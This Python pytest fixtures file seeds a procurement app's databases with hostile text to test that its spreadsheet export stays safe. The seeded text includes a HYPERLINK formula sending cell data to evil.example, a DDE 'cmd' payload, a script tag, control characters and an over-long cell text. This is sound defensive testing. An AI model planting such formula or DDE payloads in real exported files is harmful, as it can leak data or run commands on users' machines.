"""Fixtures for the export tests: databases seeded through the services with hostile text.

`hostile_services` runs on `engine` (so once on SQLite and once on PostgreSQL when it is
configured): org-a's planner creates cases whose title, department, checklist evidence, board
report and reviewer comments carry formulas, DDE, HTML, control characters, emoji, mixed scripts
and a text longer than an Excel cell. Control characters are then written straight into two
columns with SQL, as an import from another system could leave them (the services are entitled to
refuse them at the door, the export must not depend on that).
"""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest
from sqlalchemy import text

from procurement.demo import HIGH, LOW
from tests.fixtures.services import submit_filled

#: One of each kind of text a spreadsheet must keep as text.
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+2",
    "\r=3+4",
    "＝1+1",
    "<script>alert('x')</script><b>太字</b>",
    "絵文字 😀👩‍👩‍👧 と日本語 and English, العربية, 한국어, Ελληνικά",
)
#: Longer than Excel's 32,767-unit cell (and with astral characters, which count twice).
LONG_TEXT = "長文😀" * 12_000
CONTROL_TITLE = "制御\x00文字\x07と\x1bエスケープ\x0bの件名"
CONTROL_EVIDENCE = "証跡\x01\x02\x03 \ufffe終わり"


def pytest_configure(config):
    config.addinivalue_line(
        "markers", "print: prints documents with LibreOffice or Chromium (skipped locally "
                   "without them, a failure in CI)")


@dataclass
class Seeded:
    """What the hostile seed created (ids to look for in the workbook)."""

    services: object
    planner: object
    reviewer: object
    case_ids: list[int]
    long_case_id: int
    control_case_id: int


@pytest.fixture
def hostile(engine, records_registry, service_clock, fast_password_hashing) -> Seeded:
    """The hostile seed on SQLite and on PostgreSQL."""
    return seed_hostile(engine, records_registry, service_clock)


@pytest.fixture
def hostile_sqlite(sqlite_url, records_registry, service_clock, fast_password_hashing):
    """The hostile seed on SQLite only (for checks of the workbook's shape, not of storage)."""
    from procurement.db import create_db_engine

    engine = create_db_engine(sqlite_url)
    yield seed_hostile(engine, records_registry, service_clock)
    engine.dispose()


def seed_hostile(engine, records_registry, service_clock) -> Seeded:
    from procurement.services import Services

    svc = Services(engine, records_registry, clock=service_clock)
    admin = svc.create_first_admin("org-a", "テスト省", "ministry", "a-admin", "管理者A",
                                   "correct horse battery")
    svc.create_org(admin, "org-b", "別の省", "ministry")
    svc.create_user(admin, "org-a", "a-planner", "=企画 花子", "correct horse battery",
                    ["planner"])
    svc.create_user(admin, "org-a", "a-reviewer", "審査 一郎", "correct horse battery",
                    ["reviewer"])
    svc.create_user(admin, "org-b", "b-planner", "別 企画", "correct horse battery",
                    ["planner"])
    planner, reviewer = svc.actor_for("a-planner"), svc.actor_for("a-reviewer")
    other = svc.actor_for("b-planner")
    case_ids = []
    for i, hostile_text in enumerate(HOSTILE):
        case = svc.create_case(planner, hostile_text, hostile_text,
                               answers=HIGH if i % 2 else LOW)
        case = svc.set_checklist_item(planner, case.id, "PC-G1", "met", hostile_text,
                                      case.version)
        if i % 2:
            case = svc.save_board_report(planner, case.id, {
                "project_details": hostile_text, "objectives": "目的", "risk_mitigation": "-",
                "qa_plan": "+", "schedule": "2026年度", "contact": "@担当",
            }, case.version)
        case_ids.append(case.id)
    # One case goes through review with a hostile comment (a decision row with user text).
    first = svc.get_case(planner, case_ids[0])
    first = submit_filled(svc, planner, first, comment="=提出します")
    svc.return_case(reviewer, first.id, "=HYPERLINK(\"x\") 直してください", first.version)
    long_case = svc.create_case(planner, "長い根拠の案件", "総務課", answers=LOW)
    long_case = svc.set_checklist_item(planner, long_case.id, "PC-G1", "met", LONG_TEXT,
                                       long_case.version)
    control_case = svc.create_case(planner, "制御文字の案件", "総務課", answers=LOW)
    control_case = svc.set_checklist_item(planner, control_case.id, "PC-G1", "met", "仮",
                                          control_case.version)
    svc.create_case(other, "別組織の案件", "別の課", answers=LOW)
    # PostgreSQL text cannot hold NUL at all; every other control character goes in.
    title = CONTROL_TITLE if engine.dialect.name == "sqlite" else CONTROL_TITLE.replace("\x00", "")
    with engine.begin() as conn:
        conn.execute(text("UPDATE cases SET title = :t WHERE id = :i"),
                     {"t": title, "i": control_case.id})
        conn.execute(text("UPDATE checklist_results SET evidence = :e WHERE case_id = :i"),
                     {"e": CONTROL_EVIDENCE, "i": control_case.id})
    return Seeded(svc, planner, reviewer, case_ids, long_case.id, control_case.id)


@pytest.fixture(scope="session")
def demo_template(tmp_path_factory, records_registry) -> Path:
    """A SQLite file seeded once per session with `procurement.demo` (copied by `demo_engine`)."""
    from procurement.db import create_db_engine
    from procurement.demo import seed_demo
    from procurement.records import security
    from procurement.services import Services

    path = tmp_path_factory.mktemp("demo") / "demo.sqlite"
    cost, security.SCRYPT_N = security.SCRYPT_N, 2**8  # seeding only; restored below
    try:
        engine = create_db_engine(f"sqlite:///{path}")
        seed_demo(Services(engine, records_registry))
        engine.dispose()  # the last connection to close checkpoints the WAL into the file
    finally:
        security.SCRYPT_N = cost
    return path


@pytest.fixture
def demo_engine(demo_template, tmp_path):
    """A fresh SQLite file holding the demo data (two organisations, every status and level)."""
    from procurement.db import create_db_engine

    path = tmp_path / "demo.sqlite"
    shutil.copyfile(demo_template, path)
    wal = demo_template.with_name(demo_template.name + "-wal")
    if wal.exists():
        shutil.copyfile(wal, path.with_name(path.name + "-wal"))
    engine = create_db_engine(f"sqlite:///{path}")
    yield engine
    engine.dispose()
